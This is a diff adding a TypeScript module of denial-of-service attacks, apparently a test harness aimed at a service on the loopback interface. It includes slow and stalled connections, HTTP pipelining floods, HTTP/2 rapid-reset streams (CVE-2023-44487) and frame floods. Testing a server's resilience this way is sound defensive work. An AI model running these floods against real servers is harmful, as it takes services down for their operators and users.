@@ -1,0 +1,209 @@
+/**
+ * What strangers do to a server that they want to keep others from: each attack goes on
+ * until its process is ended. None of them needs a secret, and none much bandwidth.
+ */
+import net from "node:net";
+import * as frames from "./http2Frames.ts";
+import { rawRequest } from "./rawHttp1.ts";
+
+/** Where an attack goes, and the address that it comes from. */
+export interface Target {
+  readonly port: number;
+  /** Of the loopback network, 127.0.0.0/8. */
+  readonly from: string;
+}
+
+const REST_PATH = "/api/v1/signals/ingest";
+const BATCH_PATH = "/signals.v1.IngestService/IngestBatch";
+const WATCH_PATH = "/grpc.health.v1.Health/Watch";
+const GRPC = ["content-type", "application/grpc"] as const;
+/** SETTINGS_INITIAL_WINDOW_SIZE of 0: no answer may have a body (RFC 9113, section 6.5.2). */
+const NO_WINDOW = Buffer.from("000400000000", "hex");
+
+/** All attacks by their names. */
+export const ATTACKS = {
+  /** Connections that say nothing. */
+  silence: (target) => keep(4_300, target, () => undefined),
+  /** HTTP/2 connections on which nothing is asked. */
+  prefaces: (target) => keep(4_300, target, (socket) => void socket.write(frames.opening())),
+  /** HTTP/1.1 connections on which one request was answered, and no other comes. */
+  idle: (target) => keep(4_300, target, (socket) => void socket.write(get("/api/v1/health"))),
+  /** Single signals that stop one byte short of their end. */
+  stoppedBodies: (target) => keep(1_100, target, (socket) => postBody(socket, 64 * 1024)),
+  /** The same with batches, over HTTP/2, many on a connection. */
+  stoppedBatches: (target) => keep(8, target, (socket) => postBatches(socket, 100, 64 * 1024 - 1)),
+  /** Bodies that come, but never end within anybody's patience. */
+  slowBodies: (target) =>
+    keep(1_100, target, (socket) => {
+      postBody(socket, 32 * 1024, 64 * 1024);
+      every(1_000, socket, () => void socket.write(Buffer.alloc(256, 0x20)));
+    }),
+  /** Requests that open and never send a body, as many as a connection may. */
+  openStreams: (target) => keep(200, target, (socket) => postBatches(socket, 100, 0)),
+  /** Answers that nobody reads. */
+  unreadAnswers: (target) =>
+    keep(200, target, (socket) => {
+      const ask = (index: number) =>
+        frames.headers(2 * index + 1, [...frames.post("/x")], frames.END_STREAM);
+      socket.write(opening(NO_WINDOW, 100, ask));
+    }),
+  /** Watches of the health service, four on a connection. */
+  watches: (target) =>
+    keep(100, target, (socket) => {
+      const watch = (index: number) =>
+        Buffer.concat([
+          frames.headers(2 * index + 1, [...frames.post(WATCH_PATH), GRPC]),
+          frames.data(2 * index + 1, Buffer.alloc(5), frames.END_STREAM),
+        ]);
+      socket.write(opening(undefined, 4, watch));
+    }),
+  /** Streams that are opened and reset, a thousand on a connection (CVE-2023-44487). */
+  resets: (target) => keep(3, target, (socket) => writeOnce(socket, resetStreams(frames.CANCEL))),
+  /** The same with a body that has begun, and a code that calls it no error. */
+  resetBodies: (target) =>
+    keep(3, target, (socket) => {
+      const open = (index: number) =>
+        Buffer.concat([
+          frames.headers(2 * index + 1, [...frames.post(BATCH_PATH), GRPC]),
+          frames.data(2 * index + 1, Buffer.alloc(5)),
+          frames.reset(2 * index + 1, frames.NO_ERROR),
+        ]);
+      writeOnce(socket, opening(undefined, 1_000, open));
+    }),
+  /** Streams that the server has to reset, for a window that grows by 0. */
+  madeResets: (target) =>
+    keep(3, target, (socket) => {
+      const open = (index: number) =>
+        Buffer.concat([
+          frames.headers(2 * index + 1, [...frames.post(BATCH_PATH), GRPC]),
+          frames.frame(WINDOW_UPDATE, 0, 2 * index + 1, Buffer.alloc(4)),
+        ]);
+      writeOnce(socket, opening(undefined, 1_000, open));
+    }),
+  /** Thousands of requests in one piece. */
+  pipelines: (target) =>
+    keep(2, target, (socket) => {
+      writeOnce(socket, Buffer.concat(Array.from({ length: 2_000 }, () => get("/x"))));
+    }),
+  /** Frames that carry nothing and that the server has to answer or to look at. */
+  emptyFrames: (target) => {
+    for (const bytes of EMPTY_FRAMES) flood(target, bytes);
+  },
+} as const satisfies Record<string, (target: Target) => void>;
+
+/** The name of an attack. */
+export type AttackName = keyof typeof ATTACKS;
+
+const PRIORITY = 2;
+const WINDOW_UPDATE = 8;
+const CONTINUATION = 9;
+const EMPTY_FRAMES = [
+  frames.frame(frames.FRAME.ping, 0, 0, Buffer.alloc(8)),
+  frames.frame(frames.FRAME.settings, 0, 0),
+  frames.frame(PRIORITY, 0, 1, Buffer.alloc(5, 1)),
+  frames.data(1, Buffer.alloc(0)),
+  frames.frame(CONTINUATION, 0, 1),
+];
+/** Connections are opened so many at a time, since more would not be accepted at once. */
+const OPENING_MAX = 200;
+const PAUSE_MS = 10;
+
+/** Keeps so many connections open: one that is closed is replaced. */
+function keep(count: number, { port, from }: Target, begin: (socket: net.Socket) => void): void {
+  let open = 0;
+  let opening = 0;
+  function fill(): void {
+    while (open < count && opening < OPENING_MAX) connect();
+  }
+  function connect(): void {
+    open += 1;
+    opening += 1;
+    let isOpening = true;
+    const opened = () => {
+      if (isOpening) opening -= 1;
+      isOpening = false;
+    };
+    const socket = net.connect({ port, host: "127.0.0.1", localAddress: from });
+    socket.on("error", () => undefined);
+    socket.once("connect", () => {
+      opened();
+      begin(socket);
+      fill();
+    });
+    socket.once("close", () => {
+      opened();
+      open -= 1;
+      setTimeout(fill, PAUSE_MS);
+    });
+    socket.resume();
+  }
+  fill();
+}
+
+/** Writes all and hangs up, so that the next connection can do the same. */
+function writeOnce(socket: net.Socket, bytes: Buffer): void {
+  socket.write(bytes, () => setTimeout(() => socket.destroy(), PAUSE_MS));
+}
+
+/** Two connections that send one frame as fast as it is taken. */
+function flood(target: Target, bytes: Buffer): void {
+  const many = Buffer.concat(Array.from({ length: 1_000 }, () => bytes));
+  keep(2, target, (socket) => {
+    const first = frames.headers(1, [...frames.post(BATCH_PATH), GRPC]);
+    socket.write(Buffer.concat([frames.opening(), first]));
+    const more = () => {
+      while (socket.writable && socket.write(many));
+    };
+    socket.on("drain", more);
+    more();
+  });
+}
+
+function opening(
+  settings: Uint8Array | undefined,
+  count: number,
+  stream: (index: number) => Buffer,
+): Buffer {
+  const streams = Array.from({ length: count }, (_, index) => stream(index));
+  const begin = frames.frame(frames.FRAME.settings, 0, 0, settings);
+  return Buffer.concat([frames.PREFACE, begin, ...streams]);
+}
+
+function resetStreams(code: number): Buffer {
+  return opening(undefined, 1_000, (index) =>
+    Buffer.concat([
+      frames.headers(2 * index + 1, frames.post("/x"), frames.END_STREAM),
+      frames.reset(2 * index + 1, code),
+    ]),
+  );
+}
+
+function get(path: string): Buffer {
+  return rawRequest(`GET ${path} HTTP/1.1`, [["host", "localhost"]]);
+}
+
+function postBody(socket: net.Socket, length: number, announced = length): void {
+  const head = rawRequest(`POST ${REST_PATH} HTTP/1.1`, [
+    ["host", "localhost"],
+    ["content-type", "application/json"],
+    ["content-length", `${announced}`],
+  ]);
+  socket.write(Buffer.concat([head, Buffer.alloc(length - 1, 0x20)]));
+}
+
+/** Batches that are never ended; `length` bytes of each, as far as the window allows. */
+function postBatches(socket: net.Socket, count: number, length: number): void {
+  const open = (index: number) => frames.headers(2 * index + 1, [...frames.post(BATCH_PATH), GRPC]);
+  socket.write(opening(undefined, count, open));
+  for (let index = 0; index < count && length > 0; index++) {
+    for (let sent = 0; sent < length; sent += 16_384) {
+      const size = Math.min(16_384, length - sent);
+      socket.write(frames.data(2 * index + 1, Buffer.alloc(size)));
+    }
+  }
+}
+
+function every(intervalMs: number, socket: net.Socket, action: () => void): void {
+  const timer = setInterval(action, intervalMs);
+  socket.once("close", () => clearInterval(timer));
+}
